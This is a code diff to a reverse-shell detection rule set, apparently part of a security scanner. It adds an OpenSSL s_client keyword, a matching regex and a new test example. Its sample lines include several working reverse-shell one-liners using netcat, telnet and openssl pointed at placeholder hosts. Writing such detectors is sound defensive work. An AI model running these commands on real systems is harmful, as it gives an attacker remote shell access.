@@ -115,6 +115,7 @@ export const REVERSE_SHELL_TOOL_RULES: readonly Rule[] = [
     ...REVERSE_SHELL,
     id: 'netcat_piped_shell',
     keywords: [
+      's_client',
       'telnet',
       'netcat',
       'ncat ',
@@ -132,6 +133,7 @@ export const REVERSE_SHELL_TOOL_RULES: readonly Rule[] = [
       '(?:',
       `${WORD_START}(?:${NETCAT}|telnet)${GAP}(?:-[a-z]{1,6}[ \\t]{1,4})?[A-Za-z0-9.:$_-]{2,80}[ \\t]{1,4}[0-9$][A-Za-z0-9]{0,8}[^\\r\\n|;]{0,40}\\|[ \\t]{0,4}${SHELL_PATH}`,
       `|${WORD_START}${SHELL_PATH}[^\\r\\n|;]{0,40}\\|[ \\t]{0,4}(?:${NETCAT}|telnet)${GAP}[A-Za-z0-9.:$_-]{2,80}[ \\t]{1,4}[0-9$][A-Za-z0-9]{0,8}`,
+      `|${WORD_START}openssl[ \\t]{1,4}s_client[^\\r\\n|;]{1,120}\\|[ \\t]{0,4}${SHELL_PATH}`,
       ')',
     ),
     reach: { before: 220, after: 230 },
@@ -141,6 +143,7 @@ export const REVERSE_SHELL_TOOL_RULES: readonly Rule[] = [
         'nc 192.0.2.1 4444 | /bin/sh | nc 192.0.2.1 4445',
         'telnet 192.0.2.1 4444 | /bin/bash | telnet 192.0.2.1 4445',
         'nc -lvp 4444 | bash',
+        'openssl s_client -quiet -connect 192.0.2.1:443 | /bin/bash | openssl s_client -connect 192.0.2.1:444',
         '/bin/sh -i 2>&1 | nc x.example 9001 > /tmp/p',
       ];
     },
